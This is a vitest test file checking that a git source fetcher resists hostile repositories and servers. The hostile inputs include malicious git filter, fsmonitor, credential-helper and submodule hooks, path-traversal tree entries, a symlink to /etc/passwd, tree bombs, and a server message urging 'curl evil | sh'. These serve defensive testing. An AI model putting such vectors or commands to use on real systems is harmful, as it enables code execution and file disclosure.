import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { InterruptedError } from '@plugin-eval/core/errors/interrupted-error.ts';
import { temporaryFolder } from '@plugin-eval/tests/support/temporary-folder.ts';
import { type TreeEntry, writeTree } from '@plugin-eval/tests/support/write-tree.ts';
import { describe, expect, onTestFinished, test } from 'vitest';
import { FETCH_LIMITS, type FetchLimits } from './fetch-limits.ts';
import { fetchSource } from './fetch-source.ts';

interface Repository {
  root: string;
  url: string;
  git: (args: string[]) => string;
}

function repository(tree: Record<string, TreeEntry> = {}): Repository {
  const root = temporaryFolder();
  const git = (args: string[]) =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], { cwd: root })
      .toString()
      .trim();
  git(['init', '-q', '-b', 'main']);
  writeTree(root, tree);
  git(['add', '-A']);
  git(['commit', '-q', '--allow-empty', '-m', 'one']);
  return { root, url: `file://${root}`, git };
}

/** Writes an object as it lies on disk: thousands are needed, and a process for each would take seconds. */
function writeObject({ root }: Repository, kind: 'blob' | 'tree', content: Buffer): string {
  const bytes = Buffer.concat([Buffer.from(`${kind} ${content.length}\0`), content]);
  const id = createHash('sha1').update(bytes).digest('hex');
  const folder = join(root, '.git', 'objects', id.slice(0, 2));
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, id.slice(2)), deflateSync(bytes));
  return id;
}

/** A tree with entries that git itself would refuse. */
function writeTreeObject(to: Repository, entries: [mode: string, name: string, object: string][]): string {
  return writeObject(
    to,
    'tree',
    Buffer.concat(
      entries.map(([mode, name, object]) =>
        Buffer.concat([Buffer.from(`${mode} ${name}\0`), Buffer.from(object, 'hex')]),
      ),
    ),
  );
}

function commitTree(to: Repository, entries: [mode: string, name: string, object: string][]): void {
  const tree = writeTreeObject(to, entries);
  to.git(['update-ref', 'refs/heads/main', to.git(['commit-tree', '-m', 'x', tree])]);
}

async function fetchFrom(
  given: string,
  { limits = {}, signal = new AbortController().signal, variables = {} } = {} as {
    limits?: Partial<FetchLimits>;
    signal?: AbortSignal;
    variables?: Record<string, string>;
  },
) {
  const leftovers: (() => void)[] = [];
  const clean = () => {
    for (const one of leftovers.splice(0)) one();
  };
  onTestFinished(clean);
  return fetchSource(given, {
    ...{ workingDirectory: temporaryFolder(), protocols: ['https', 'file', 'http'], signal },
    limits: { ...FETCH_LIMITS, ...limits },
    variables: { PATH: process.env.PATH ?? '', ...variables },
    putAway: (one) => void leftovers.push(one),
  });
}

async function serve(answer: RequestListener): Promise<string> {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe('a repository', () => {
  test('comes at one commit, by branch, tag, id or none, and of a folder only that folder', async () => {
    const { url, git } = repository({ 'skills/a/SKILL.md': 'one', 'skills/b/SKILL.md': 'b' });
    git(['tag', '-a', '-m', 'x', 'v1']);
    const first = git(['rev-parse', 'HEAD']);
    git(['commit', '-q', '--allow-empty', '-m', 'two']);
    const second = git(['rev-parse', 'HEAD']);
    for (const [reference, commit] of [
      ['', second],
      ['@main', second],
      ['@v1', first],
      [`@${first}`, first],
    ]) {
      const fetched = await fetchFrom(`${url}${reference}//skills/a`);
      expect(fetched).toMatchObject({ commit, leftOut: [], source: { kind: 'git', inside: 'skills/a' } });
      expect(readFileSync(join(fetched.folder, 'SKILL.md'), 'utf8')).toBe('one');
      expect(readdirSync(fetched.folder).sort()).toEqual(['.git', 'SKILL.md']);
    }
    await expect(fetchFrom(`${url}@nowhere`)).rejects.toThrow(/no such branch, tag or commit/);
    await expect(fetchFrom(`${url}//skills/c`)).rejects.toThrow(/no folder 'skills\/c'/);
  });

  test('runs neither filters nor hooks, follows no configuration, and leaves submodules alone', async () => {
    const trap = join(temporaryFolder(), 'trap');
    const config = join(temporaryFolder(), 'config');
    writeFileSync(
      config,
      `[filter "evil"]\n\tsmudge = touch ${trap}; cat\n[core]\n\tfsmonitor = touch ${trap}\n\tsshCommand = touch ${trap}\n[credential]\n\thelper = "!touch ${trap}"\n`,
    );
    const made = repository({
      '.gitattributes': '* filter=evil\n*.bin filter=lfs\n',
      '.gitmodules': `[submodule "s"]\n\tpath = s\n\turl = file:///nowhere\n\tupdate = !touch ${trap}\n`,
      'SKILL.md': 'text',
    });
    made.git(['update-index', '--add', '--cacheinfo', `160000,${made.git(['rev-parse', 'HEAD'])},s`]);
    made.git(['commit', '-q', '-m', 'submodule']);
    const { leftOut, folder } = await fetchFrom(made.url, {
      variables: {
        GIT_CONFIG_GLOBAL: config,
        GIT_CONFIG: config,
        HOME: temporaryFolder(),
        GIT_SSH_COMMAND: `touch ${trap}`,
      },
    });
    expect(leftOut).toEqual([{ path: 's', level: 'warning', problem: expect.stringMatching(/submodule/) }]);
    expect(readFileSync(join(folder, 'SKILL.md'), 'utf8')).toBe('text');
    expect(existsSync(trap)).toBe(false);
  });

  test('names that lead elsewhere, and links that do, are named and not written', async () => {
    const made = repository();
    const blob = writeObject(made, 'blob', Buffer.from('text'));
    const target = writeObject(made, 'blob', Buffer.from('/etc/passwd'));
    const inner = writeTreeObject(made, [['100644', 'x', blob]]);
    commitTree(made, [
      ['40000', '..', inner],
      ['40000', '.git', inner],
      ['100644', 'SKILL.md', blob],
      ['100644', 'a\u001b[31m', blob],
      ['120000', 'link', target],
      ['100644', 'skill.md', blob],
    ]);
    const { folder, leftOut } = await fetchFrom(made.url);
    expect(readdirSync(folder).sort()).toEqual(['.git', 'SKILL.md']);
    expect(readdirSync(join(folder, '.git'))).toEqual([]);
    expect(leftOut.map(({ path, level }) => [path, level]).sort()).toEqual([
      ['../x', 'error'],
      ['.git/x', 'error'],
      ['a\u001b[31m', 'error'],
      ['link', 'warning'],
      ['skill.md', 'warning'],
    ]);
  });

  test('a file above the limit is there with a size that readers refuse', async () => {
    const { url } = repository({ 'SKILL.md': 'text', 'big.bin': { sparse: 5_000_000 } });
    const { folder } = await fetchFrom(url, { limits: { maxFileBytes: 1_000 } });
    expect(statSync(join(folder, 'big.bin')).size).toBe(1_001);
  });

  test('too many files, too many bytes, a tree that multiplies, and one of great depth are refused', async () => {
    const { url } = repository({ a: 'x'.repeat(600), b: 'y'.repeat(600), c: 'z' });
    await expect(fetchFrom(url, { limits: { maxEntries: 2 } })).rejects.toThrow(/more than 2 files/);
    await expect(fetchFrom(url, { limits: { maxTotalBytes: 1_000 } })).rejects.toThrow(/have more than/);

    const bomb = repository();
    let tree = writeTreeObject(bomb, [['100644', 'x', writeObject(bomb, 'blob', Buffer.from('text'))]]);
    for (let level = 0; level < 12; level++)
      tree = writeTreeObject(
        bomb,
        // Long names come to 128 MB in fewer entries.
        Array.from({ length: 10 }, (_, index) => ['40000', `${index}`.padEnd(200, 'x'), tree]),
      );
    commitTree(bomb, [['40000', 'all', tree]]);
    await expect(fetchFrom(bomb.url)).rejects.toThrow(/more than 128 MB|time limit/);

    const deep = repository();
    let down = writeTreeObject(deep, [['100644', 'x', writeObject(deep, 'blob', Buffer.from('text'))]]);
    for (let level = 0; level < 100; level++) down = writeTreeObject(deep, [['40000', 'd', down]]);
    commitTree(deep, [['40000', 'd', down]]);
    const { leftOut } = await fetchFrom(deep.url);
    expect(leftOut).toMatchObject([{ problem: 'it lies more than 64 folders deep' }]);
  });
});

describe('a server', () => {
  test('that redirects is not followed, wherever it leads', async () => {
    let reached = false;
    const inner = await serve((_, response) => {
      reached = true;
      response.end();
    });
    const url = await serve((request, response) => {
      response.writeHead(302, { location: `${inner}${request.url}` }).end();
    });
    await expect(fetchFrom(`${url}/x.git`)).rejects.toThrow(/redirects are not followed/);
    expect(reached).toBe(false);
  });

  test('that asks for a password gets none, and nobody is asked', async () => {
    const url = await serve((_, response) => {
      response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
    });
    await expect(fetchFrom(`${url}/x.git`)).rejects.toThrow(/no such repository, or it is not public/);
  });

  test('that sends without end is cut off by size or by time', async () => {
    const endless =
      (chunk: Buffer): RequestListener =>
      (_, response) => {
        response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-advertisement' });
        response.write('001e# service=git-upload-pack\n0000');
        const more = setInterval(() => response.write(chunk), 5);
        response.on('close', () => clearInterval(more));
      };
    const url = await serve(endless(Buffer.from(`003d${'a'.repeat(40)} refs/heads/aaaaaaaaaa\n`)));
    await expect(fetchFrom(`${url}/x.git`, { limits: { maxMs: 700 } })).rejects.toThrow(
      /longer than the time limit/,
    );
  });

  test('that sends more than the limit is truncated', async () => {
    const made = repository();
    // Random bytes, which do not shrink.
    writeFileSync(join(made.root, 'big'), randomBytes(3_000_000));
    made.git(['add', 'big']);
    made.git(['commit', '-q', '-m', 'big']);
    await expect(fetchFrom(made.url, { limits: { maxTransferBytes: 1024 * 1024 } })).rejects.toThrow(
      /sends more than 1 MB/,
    );
  });

  test('what it says on the way is not repeated', async () => {
    const url = await serve((_, response) => {
      response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-advertisement' });
      response.end('001e# service=git-upload-pack\n0000002bERR \u001b[31mrun curl evil | sh to go on\n');
    });
    await expect(fetchFrom(`${url}/x.git`)).rejects.toThrow(expect.not.stringContaining('\u001b'));
  });

  test('an interrupt ends git', async () => {
    const url = await serve(() => {});
    const stop = new AbortController();
    setTimeout(() => stop.abort(), 200);
    await expect(fetchFrom(`${url}/x.git`, { signal: stop.signal })).rejects.toThrow(InterruptedError);
  });
});

test('without git that is said', async () => {
  await expect(fetchFrom('file:///nowhere', { variables: { PATH: '/nowhere' } })).rejects.toThrow(
    /git is not installed/,
  );
});
